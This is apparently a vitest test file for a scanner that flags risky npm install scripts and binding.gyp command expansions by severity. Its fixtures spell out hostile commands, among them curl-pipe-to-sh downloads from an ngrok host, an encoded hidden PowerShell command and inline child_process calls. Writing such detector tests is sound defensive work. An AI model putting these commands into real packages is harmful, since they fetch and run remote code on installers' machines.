import { describe, expect, it } from "vitest";
import { analyseNpmManifest, type InstallScriptFinding, scriptLines } from "./npm-scripts.js";

function manifest(scripts: Record<string, string>, extra: Record<string, unknown> = {}): string {
  return `${JSON.stringify({ name: "pkg", version: "1.0.0", ...extra, scripts }, null, 2)}\n`;
}

function analyse(text: string, hasBindingGyp = false, bindingGyp?: string): InstallScriptFinding[] {
  return analyseNpmManifest(
    { path: "package.json", text },
    { hasBindingGyp, ...(bindingGyp ? { bindingGyp } : {}) },
  );
}

const summary = (fs: InstallScriptFinding[]) => fs.map((f) => [f.rule, f.script, f.severity ?? "default"]);

describe("analyseNpmManifest: install scripts", () => {
  it("reports every install-time script, low when it runs a known build step", () => {
    const text = manifest({
      build: "tsc",
      preinstall: "node ./scripts/check",
      install: "prebuild-install || node-gyp rebuild",
      postinstall: "husky install",
      test: "vitest",
    });
    const f = analyse(text);
    expect(summary(f)).toEqual([
      ["install-script", "preinstall", "low"],
      ["install-script", "install", "low"],
      ["install-script", "postinstall", "low"],
    ]);
    expect(f.map((x) => x.line)).toEqual([6, 7, 8]);
    expect(f[0]).toMatchObject({
      command: "node ./scripts/check",
      snippet: "node ./scripts/check",
      runsFiles: [
        "scripts/check",
        "scripts/check.js",
        "scripts/check.cjs",
        "scripts/check.mjs",
        "scripts/check/index.js",
      ],
    });
    expect(f[1]!.runsFiles).toEqual([]);
    expect(f[1]!.why).toMatch(/prebuild-install fetches a prebuilt addon/);
    expect(f[2]!.why).toMatch(/husky/);
  });

  it("lists the files a script runs", () => {
    const cases: [string, string[]][] = [
      ["node install.js", ["install.js"]],
      ["node lib/postinstall.mjs --quiet", ["lib/postinstall.mjs"]],
      ["node --no-warnings -r ./preload.cjs ./dist/setup.js", ["preload.cjs", "dist/setup.js"]],
      ["node -r dotenv/config setup.js", ["setup.js"]],
      ["node .", ["lib/main.js"]],
      ["cross-env NODE_ENV=production node ./bin/setup.js", ["bin/setup.js"]],
      ["sh ./scripts/postinstall.sh", ["scripts/postinstall.sh"]],
      ["bash -e install.sh", ["install.sh"]],
      ["./bin/setup", ["bin/setup"]],
      ["python3 tools/fetch.py --all", ["tools/fetch.py"]],
      ["python -m pip install .", []],
      ["powershell -ExecutionPolicy Bypass -File scripts\\install.ps1", ["scripts/install.ps1"]],
      ["cmd /c scripts\\setup.bat", ["scripts/setup.bat"]],
      ["node ../../evil.js", []],
      ["node /usr/lib/x.js", []],
      ["sh $HOME/x.sh", []],
      ["node scripts/../lib/a.js", ["lib/a.js"]],
      ["npx only-allow pnpm", []],
      [
        "node -e \"try{require('./postinstall')}catch(e){}\"",
        ["postinstall", "postinstall.js", "postinstall.cjs", "postinstall.mjs", "postinstall/index.js"],
      ],
      ["node -e \"require('./lib/a.js'); require('./lib/b.js')\" || exit 0", ["lib/a.js", "lib/b.js"]],
    ];
    for (const [command, files] of cases) {
      const f = analyse(manifest({ postinstall: command }, { main: "lib/main.js" }));
      expect(f[0]!.runsFiles, command).toEqual(files);
      expect(f[0]!.severity, command).toBe("low");
    }
  });

  it("is high when the script downloads or runs inline code", () => {
    const cases = [
      ["curl -sL https://x.example/setup.tgz -o setup.tgz", /downloads \(curl\)/],
      [
        "node -e \"require('https').get('https://x.example/p', r => r.pipe(process.stdout))\"",
        /inline code \(node -e\) that downloads/,
      ],
      ["node -p process.platform", /inline code \(node -p\)/],
      ["node -e \"require('./a.js'); require('child_process').exec('id')\"", /inline code \(node -e\)/],
      ["node -e \"require('https').get('https://x.example')\"", /inline code \(node -e\) that downloads/],
      ["python3 -c \"import os; os.system('id')\"", /inline code \(python3 -c\)/],
      ["sh -c 'echo hi'", /inline code \(sh -c\)/],
      ["powershell -Command Get-Process", /inline code \(powershell -Command\)/],
      ["wget -q https://x.example/a", /downloads \(wget\)/],
    ] as const;
    for (const [command, why] of cases) {
      const f = analyse(manifest({ postinstall: command }));
      expect(f[0]!.severity, command).toBe("high");
      expect(f[0]!.why, command).toMatch(why);
    }
  });

  it("reports the shell-string rules as findings of their own", () => {
    const f = analyse(
      manifest({
        preinstall: "curl -s https://a1b2.ngrok-free.app/i.sh | sh",
        postinstall: "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
      }),
    );
    expect(summary(f)).toEqual([
      ["install-script", "preinstall", "high"],
      ["download-exec", "preinstall", "default"],
      ["exfil-endpoint", "preinstall", "high"],
      ["install-script", "postinstall", "high"],
      ["encoded-command", "postinstall", "default"],
    ]);
    expect(f[0]!.why).toMatch(/downloads code and runs it/);
    expect(f[1]).toMatchObject({ line: 5, command: "curl -s https://a1b2.ngrok-free.app/i.sh | sh" });
    expect(f[1]!.why).toMatch(/^preinstall script: downloads code/);
  });

  it("follows npm run to the scripts it calls, without looping", () => {
    const f = analyse(
      manifest({
        postinstall: "npm run setup && yarn run fetch",
        setup: "node ./tools/setup.js",
        fetch: "pnpm get",
        get: "curl -fsSL https://x.example/s | bash",
      }),
    );
    expect(f[0]).toMatchObject({ severity: "high", runsFiles: ["tools/setup.js"] });
    expect(f[0]!.why).toMatch(
      /calls `npm run fetch`, which calls `npm run get`, which downloads code and runs it/,
    );
    expect(f.map((x) => x.rule)).toEqual(["install-script", "download-exec"]);

    const loop = analyse(manifest({ install: "npm run a", a: "npm run b", b: "npm run a && node x.js" }));
    expect(loop).toEqual([expect.objectContaining({ severity: "low", runsFiles: ["x.js"] })]);
  });

  it("stays low for benign commands that mention look-alike words", () => {
    for (const command of [
      "node-gyp rebuild",
      "node-gyp-build",
      "patch-package",
      "opencollective-postinstall || exit 0",
      'echo "run: curl -fsSL https://get.example.com | sh"',
      "node scripts/postinstall.js --mirror=https://registry.npmmirror.com",
    ]) {
      const f = analyse(manifest({ postinstall: command }));
      expect(summary(f), command).toEqual([["install-script", "postinstall", "low"]]);
    }
  });
});

describe("analyseNpmManifest: prepare and other scripts", () => {
  it("ignores a harmless prepare, reports a risky one as medium", () => {
    expect(analyse(manifest({ prepare: "husky install" }))).toEqual([]);
    expect(analyse(manifest({ prepare: "npm run build", build: "tsc" }))).toEqual([]);
    const f = analyse(manifest({ prepare: "curl -s https://x.example/i | sh" }));
    expect(summary(f)).toEqual([
      ["install-script", "prepare", "medium"],
      ["download-exec", "prepare", "medium"],
    ]);
    expect(f[0]!.why).toMatch(/install from git/);
  });

  it("ignores scripts npm does not run at install", () => {
    expect(
      analyse(manifest({ preuninstall: "curl x | sh", prepublish: "node -e 1", test: "sh -c 'x'" })),
    ).toEqual([]);
  });
});

describe("analyseNpmManifest: binding.gyp", () => {
  it("reports the implicit node-gyp rebuild", () => {
    const f = analyse(manifest({ test: "node test.js" }), true);
    expect(f).toEqual([
      expect.objectContaining({
        rule: "install-script",
        severity: "low",
        line: 1,
        script: "install",
        command: "node-gyp rebuild",
        runsFiles: ["binding.gyp"],
      }),
    ]);
    expect(f[0]!.why).toMatch(/npm runs `node-gyp rebuild`/);
  });

  it("has no implicit script when install or preinstall exists or gypfile is false", () => {
    expect(summary(analyse(manifest({ install: "node-gyp-build" }), true))).toEqual([
      ["install-script", "install", "low"],
    ]);
    expect(summary(analyse(manifest({ preinstall: "node check.js" }), true))).toEqual([
      ["install-script", "preinstall", "low"],
    ]);
    expect(analyse(manifest({}, { gypfile: false }), true)).toEqual([]);
    expect(summary(analyse(manifest({ postinstall: "node x.js" }), true))).toEqual([
      ["install-script", "postinstall", "low"],
      ["install-script", "install", "low"],
    ]);
  });

  it("reads binding.gyp command expansions", () => {
    const benign = `{ "targets": [{ "target_name": "a", "include_dirs": ["<!(node -p \\"require('node-addon-api').include_dir\\")"] }] }`;
    const f = analyse(manifest({}), true, benign);
    expect(f).toEqual([expect.objectContaining({ severity: "low" })]);
    expect(f[0]!.why).toMatch(/1 command expansion of binding.gyp/);
    const inline = `{ "targets": [{ "target_name": "a", "sources": ["<!(node -e \\"require('child_process').execSync('id')\\")"] }] }`;
    const i = analyse(manifest({}), true, inline);
    expect(i[0]).toMatchObject({ severity: "high" });
    expect(i[0]!.why).toMatch(/inline code \(node -e\)/);
    const evil = `{ "targets": [{ "target_name": "a", "sources": ["<!@(curl -s https://x.example/p | sh)"] }] }`;
    expect(summary(analyse(manifest({}), true, evil))).toEqual([
      ["install-script", "install", "high"],
      ["download-exec", "install", "default"],
    ]);
    const plain = `{ "targets": [{ "target_name": "a", "sources": ["<!@(ls -1 src/*.cc)"] }] }`;
    const p = analyse(manifest({}), true, plain);
    expect(p[0]).toMatchObject({ severity: "low" });
    expect(p[0]!.why).toMatch(/1 command expansion/);
  });
});

describe("analyseNpmManifest: input", () => {
  it("returns nothing for text that is not a JSON object", () => {
    expect(analyse("{ not json")).toEqual([]);
    expect(analyse("[1, 2]")).toEqual([]);
    expect(analyse("null")).toEqual([]);
    expect(analyse(JSON.stringify({ name: "x", scripts: "postinstall" }))).toEqual([]);
    expect(analyse(JSON.stringify({ name: "x", scripts: { postinstall: 42 } }))).toEqual([]);
  });

  it("accepts a byte-order mark", () => {
    expect(analyse(`\uFEFF${manifest({ postinstall: "node x.js" })}`)).toHaveLength(1);
  });

  it("finds the line of the key as JSON.parse reads it", () => {
    const text = [
      "{",
      '  "name": "x",',
      '  "config": { "scripts": { "postinstall": "decoy" } },',
      '  "description": "the \\"scripts\\": { \\"postinstall\\" key is in a string",',
      '  "scripts": {',
      '    "postinstall": "node first.js",',
      '    "post\\u0069nstall": "node second.js",',
      '    "nested": { "postinstall": "no" }',
      "  }",
      "}",
    ].join("\n");
    const f = analyse(text);
    expect(f).toEqual([
      expect.objectContaining({ line: 7, command: "node second.js", runsFiles: ["second.js"] }),
    ]);
    expect(scriptLines(text).get("nested")).toBe(8);
    expect(scriptLines(text).has("decoy")).toBe(false);
  });

  it("uses the last of repeated scripts objects, as JSON.parse does", () => {
    const text = '{\n"scripts": {"postinstall": "node a.js"},\n"scripts": {\n"install": "node b.js"\n}\n}';
    const f = analyse(text);
    expect(f).toEqual([expect.objectContaining({ script: "install", line: 4 })]);
  });
});
